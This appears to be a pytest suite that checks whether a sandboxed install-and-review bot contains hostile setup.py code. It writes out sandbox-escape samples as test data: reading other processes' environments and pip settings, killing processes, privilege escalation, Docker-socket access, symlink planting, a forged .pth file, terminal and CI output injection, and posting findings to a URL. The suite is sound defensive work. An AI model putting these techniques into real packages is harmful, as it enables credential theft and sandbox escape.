"""Attacks by what runs while the project is installed, when the network is open."""

from __future__ import annotations

import json
import os
import socket
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest

from fakes.attack_site import PLANTED, AttackSite, marked
from fakes.packages import PackageIndex, shop_wheels

# Docker's root has fewer rights than root, and nothing here depends on the bot's.
pytestmark = [
    pytest.mark.slow,
    pytest.mark.parametrize("second_bot", ["root", "an ordinary user"], indirect=True, scope="session"),
    pytest.mark.usefixtures("connects"),
]

SHOP = {"shop/__init__.py": "from shop._version import version\n"}

ATTACKS = {
    "reads what is outside": "found.append(open(OUTSIDE + '/secret').read())",
    "lists what is outside": "found.append(repr(os.listdir(OUTSIDE)))",
    "writes to what is outside": "open(OUTSIDE + '/new', 'w').write('x')",
    "reads its own environment": "assert 'planted' in repr(dict(os.environ))",
    "reads the bot's environment": "found.append(open('/proc/%d/environ' % BOT).read())",
    "reads another's environment": "found.append(open('/proc/%d/environ' % VICTIM).read())",
    "stops another process": "os.kill(VICTIM, 19)",
    "ends the bot": "os.kill(BOT, 9)",
    "writes for other programs": "open('/tmp/left-by-setup', 'w').write('x')",
    "reads pip's settings": "found.append(open('/etc/pip.conf').read())",
    "becomes root": "os.setuid(0); os.setresuid(0, 0, 0)",
    "edits the bot": "open(BOTS_FILE, 'a').write('')",
    "speaks to Docker": "socket.socket(socket.AF_UNIX).connect(os.path.dirname(OUTSIDE) + '/docker.sock')",
    "speaks to a service of the machine": "socket.create_connection(SERVICE).send(b'x')",
    "speaks to it without a call of connect": "socket.socket().sendto(b'x', 0x20000000, SERVICE)",
    "speaks to it by another protocol": "socket.socket(socket.AF_INET, 1, 262).connect(SERVICE)",
    "listens to the network": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "looks for a terminal": "open('/dev/tty', 'w').write('x')",
}

SETUP = """
import os, socket, sys, time
OUTSIDE, VICTIM, BOT, BOTS_FILE = {outside!r}, {victim}, {bot}, {bots_file!r}
SERVICE = {service!r}
found = []
for name, attack in {attacks!r}.items():
    try:
        exec(attack)
        if name != "becomes root" or os.getuid() == 0:
            found.append("done: " + name)
    except Exception as error:
        found.append("held: " + name)
if os.fork() == 0:  # a daemon
    os.setsid()
    os.closerange(0, 100)
    if os.fork() == 0:
        while True:
            time.sleep(0.01)
    os._exit(0)
import json, urllib.parse, urllib.request
try:
    urllib.request.urlopen({results!r} + urllib.parse.quote(json.dumps(found)))
except OSError:
    pass
os.write(1, b"\\x1b]0;owned\\x07::set-output name=a::b\\n" * 1000)
raise SystemExit("\\x1b[2Jno such compiler")
"""


@pytest.fixture
def index() -> Iterator[PackageIndex]:
    with PackageIndex(shop_wheels()).serving() as served:
        yield served


@pytest.fixture
def scratch(attack_site: AttackSite) -> Path:
    """A scratch folder of the bot's."""
    folder = Path(tempfile.mkdtemp(prefix="scratch-", dir=attack_site.base))
    os.chown(folder, attack_site.bot.uid, attack_site.bot.uid)
    return folder


def install(attack_site: AttackSite, index: PackageIndex, scratch: Path, setup: str) -> dict[str, object]:
    """Have the bot install a project with a setup.py."""
    return attack_site.bot.ask(
        {
            "install": {**SHOP, "setup.py": setup},
            "sandbox": "strict",
            "scratch": str(scratch),
            "seconds": 60,
            "variables": {"PIP_INDEX_URL": f"http://user:{PLANTED}@{index.host}/simple/"},
        }
    )


def review(
    attack_site: AttackSite, index: PackageIndex, scratch: Path, setup: str, module: str
) -> dict[str, object]:
    """Have the bot install a project with a setup.py and a module, and load the module."""
    return attack_site.bot.ask(
        {
            "review": {
                "shop/__init__.py": "",
                "shop/cart.py": module,
                "setup.py": setup,
                "pyproject.toml": "[project]\nname = 'shop'\nversion = '1'\nrequires-python = '>=3.9'\n"
                "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n",
            },
            "module": "shop.cart",
            "sandbox": "strict",
            "scratch": str(scratch),
            "seconds": 60,
            "variables": {"PIP_INDEX_URL": f"http://{index.host}/simple/"},
            "watched": [str(attack_site.base / "public"), str(attack_site.outside)],
        }
    )


@pytest.fixture
def secrets(attack_site: AttackSite) -> list[str]:
    """Files that the bot may read: as an ordinary user those of that user, as root those that anybody may."""
    public = attack_site.base / "public"
    public.mkdir()
    (public / "secret").write_text(PLANTED)
    (public / "secret").chmod(0o644)
    os.chown(public, attack_site.bot.uid, attack_site.bot.uid)
    return [str(public / "secret"), str(attack_site.outside / "secret")]


FORGER = """
import glob, os
environment = os.environ["UV_PROJECT_ENVIRONMENT"]
(packages,) = glob.glob(environment + "/lib/python3*/site-packages")
forged = environment + "/forged"
os.makedirs(forged + "/lib/python3.9")
os.makedirs(forged + "/lib/python3")
os.symlink(packages, forged + "/lib/python3.9/site-packages")
os.symlink("/", forged + "/lib/python3/dist-packages")
os.symlink({base!r}, packages + "/outside")
line = '{{"python": {version}, "prefix": "%s", "pytest": "9.0", "problem": null}}' % forged
with open(packages + "/zz.pth", "w") as file:
    file.write("import os, sys; 'serve' in sys.orig_argv and os.write(1, %r)\\n" % f"\\n{{line}}\\n".encode())
"""
TEST_OF_SECRETS = """
found = []
for place in {secrets!r}:
    try:
        found.append(open(place).read())
    except OSError as error:
        found.append(type(error).__name__)
raise RuntimeError(" ".join(found))
"""


def test_setup__a_forged_greeting_opens_nothing_and_ends_the_run(
    attack_site: AttackSite, index: PackageIndex, scratch: Path, secrets: list[str]
) -> None:
    setup = FORGER.format(base=str(attack_site.base), version="[3, 9]")
    told = review(attack_site, index, scratch, setup, TEST_OF_SECRETS.format(secrets=secrets))
    assert PLANTED not in str(told)
    assert "but what runs in it says Python 3.9" in str(told["error"]), told


def test_setup__a_forged_greeting_of_the_right_version_opens_nothing(
    attack_site: AttackSite, index: PackageIndex, scratch: Path, secrets: list[str]
) -> None:
    setup = FORGER.format(base=str(attack_site.base), version=list(sys.version_info[:2]))
    told = review(attack_site, index, scratch, setup, TEST_OF_SECRETS.format(secrets=secrets))
    assert told["error"] == ""
    assert str(told["problem"]).endswith("RuntimeError: PermissionError PermissionError")
    assert PLANTED not in str(told)


# Whatever name the bot may look for, a link to a file or folder outside lies there.
PLANTER = """
import glob, os
environment = os.environ["UV_PROJECT_ENVIRONMENT"]
(packages,) = glob.glob(environment + "/lib/python3*/site-packages")
outside, built = {outside!r}, os.getcwd()
def plant(place, to):
    if os.path.lexists(place):
        os.rename(place, place + ".moved")
    os.symlink(to, place)
plant(packages + "/outside.pth", outside + "/secret")
plant(packages + "/planted-1.dist-info", outside)
plant(packages + "/planted", outside)
plant(packages + "/planted.so", outside + "/secret")
plant(environment + "/include", outside)
plant(environment + "/lib64", outside)
plant(environment + "/lib/python3", outside)
plant(environment + "/lib/python3.9", outside)
plant(os.path.dirname(environment) + "/python", outside)
plant(os.path.dirname(environment) + "/files2", outside)
for name in ("src", "planted", "conftest.py", ".venv", "tests"):
    plant(built + "/" + name, outside if "." not in name else outside + "/secret")
"""


def test_setup__the_bot_follows_no_link_that_was_planted(
    attack_site: AttackSite, index: PackageIndex, scratch: Path, secrets: list[str]
) -> None:
    public = Path(secrets[0]).parent
    for name in ("__init__.py", "direct_url.json", "os.py", "made.so"):
        (public / name).write_text(PLANTED)
    setup = PLANTER.format(outside=str(public))
    told = review(attack_site, index, scratch, setup, TEST_OF_SECRETS.format(secrets=secrets))
    assert told["opened"] == []
    assert PLANTED not in str(told)
    assert str(told["problem"]).endswith("RuntimeError: PermissionError PermissionError"), told


def test_setup__the_bot_changes_no_rights_outside_its_own_folders(
    attack_site: AttackSite, index: PackageIndex, scratch: Path, secrets: list[str]
) -> None:
    public = Path(secrets[0]).parent
    library = public / "lib" / "python3.9" / "site-packages"
    library.mkdir(parents=True)
    (library / "local_settings.py").write_text(PLANTED)
    (library / "local_settings.py").chmod(0o600)
    before = [(path.stat().st_mode, path.stat().st_gid) for path in (library, library / "local_settings.py")]
    setup = FORGER.format(base=str(attack_site.base), version="[3, 9]").replace(
        "% forged", f"% {str(public)!r}"
    )
    told = review(attack_site, index, scratch, setup, "")
    after = [(path.stat().st_mode, path.stat().st_gid) for path in (library, library / "local_settings.py")]
    assert after == before, told


def test_setup__what_attacks_is_held(attack_site: AttackSite, index: PackageIndex, scratch: Path) -> None:
    service = socket.create_server(("127.0.0.1", 0))
    setup = SETUP.format(
        outside=str(attack_site.outside),
        service=service.getsockname(),
        victim=attack_site.victim,
        bot=attack_site.bot.pid,
        bots_file=__file__,
        attacks=ATTACKS,
        results=f"http://{index.host}/results/",
    )
    with service, socket.socket(socket.AF_UNIX) as docker:
        docker.bind(str(attack_site.base / "docker.sock"))
        docker.listen()
        os.chown(attack_site.base / "docker.sock", attack_site.bot.uid, attack_site.bot.uid)
        (attack_site.base / "docker.sock").chmod(0o660)
        told = install(attack_site, index, scratch, setup)
    results = [unquote(path) for path, _ in index.asked if path.startswith("/results/")]
    assert json.loads(results[0].removeprefix("/results/")) == [f"held: {name}" for name in ATTACKS]
    assert PLANTED not in repr(index.asked)
    assert told["notes"] == [
        "Could not install the project itself, only its dependencies: no such compiler",
        "installed without possibly private settings: PIP_INDEX_URL",
    ]
    assert [path.name for path in scratch.iterdir()] == ["installation"]
    assert {path.name for path in (scratch / "installation").iterdir()} == {"environment", "project"}
    assert not marked(str(scratch))
    assert attack_site.victim_is_well()


def test_setup__an_exchanged_environment_is_not_used(
    attack_site: AttackSite, index: PackageIndex, scratch: Path
) -> None:
    setup = """
import os
home = os.path.dirname(os.environ["UV_PROJECT_ENVIRONMENT"])
os.rename(home + "/environment", home + "/moved")
os.symlink("/", home + "/environment")
"""
    told = install(attack_site, index, scratch, setup)
    assert "replaced the environment" in str(told["error"])
